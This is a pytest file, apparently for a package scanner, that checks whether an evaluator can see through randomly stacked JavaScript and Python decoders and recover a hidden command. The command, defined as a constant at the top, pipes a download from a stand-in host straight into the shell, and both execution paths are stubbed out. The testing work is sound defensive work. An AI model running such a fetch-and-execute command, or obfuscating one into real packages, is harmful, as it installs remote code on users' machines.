"""Decoders made at random: the evaluator tells the command that Node, or Python, comes to."""

import json
import os
import random
import shutil
import subprocess

import js_decoders
import py_decoders
import pytest
from engine_flows import commands

COMMAND = "curl http://a.example.invalid/b|sh"
COUNT = 60
_ASK = """
const vm = require('vm'), all = JSON.parse(require('fs').readFileSync(0, 'utf8'));
console.log(JSON.stringify(all.map((one) => {
  const said = [], known = { execSync: (command) => said.push(command) };
  const loads = (name) => name === 'child_process' ? known : require(name);
  vm.runInNewContext(one, { require: loads, Buffer, atob, TextDecoder });
  return said;
})));
"""


@pytest.fixture(scope="module")
def scripts() -> dict[str, str]:
    """Each piece by itself, and some of three at a time; Node was asked whether they do what they should."""
    dice = random.Random(20261130)
    pieces = js_decoders.PIECES
    drawn = [[one] for one in pieces] + [dice.sample(list(pieces), 3) for _ in range(COUNT)]
    made = {" of ".join(one): js_decoders.program(COMMAND, one, dice) for one in drawn}
    node = shutil.which("node")
    assert node, "Node is missing: `apt-get install nodejs npm`, or run scripts/test"
    given = json.dumps(list(made.values()))
    done = subprocess.run(
        [node, "-e", _ASK], input=given, capture_output=True, text=True, check=True
    )
    assert json.loads(done.stdout) == [[COMMAND]] * len(made)
    return made


@pytest.fixture
def programs(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The same in Python, which was asked in a process that starts nothing."""
    dice = random.Random(20261130)
    pieces = py_decoders.PIECES
    drawn = [[one] for one in pieces] + [dice.sample(list(pieces), 3) for _ in range(COUNT)]
    made = {" of ".join(one): py_decoders.program(COMMAND, one, dice) for one in drawn}
    said: list[str] = []
    monkeypatch.setattr(os, "system", said.append)
    for text in made.values():
        exec(text, {"__name__": "decoder"})
    assert said == [COMMAND] * len(made)
    return made


def _other(made: dict[str, str], form: str) -> dict[str, set[str]]:
    """The programs of which the evaluator tells another command, or none, with what it tells."""
    found = {name: commands(text, form) for name, text in made.items()}
    return {name: told for name, told in found.items() if told != {COMMAND}}


def test_the_evaluator_comes_to_the_command_of_node(scripts: dict[str, str]) -> None:
    assert len(scripts) == len(js_decoders.PIECES) + COUNT
    assert _other(scripts, "npm") == {}


def test_the_evaluator_comes_to_the_command_of_python(programs: dict[str, str]) -> None:
    assert len(programs) == len(py_decoders.PIECES) + COUNT
    assert _other(programs, "sdist") == {}
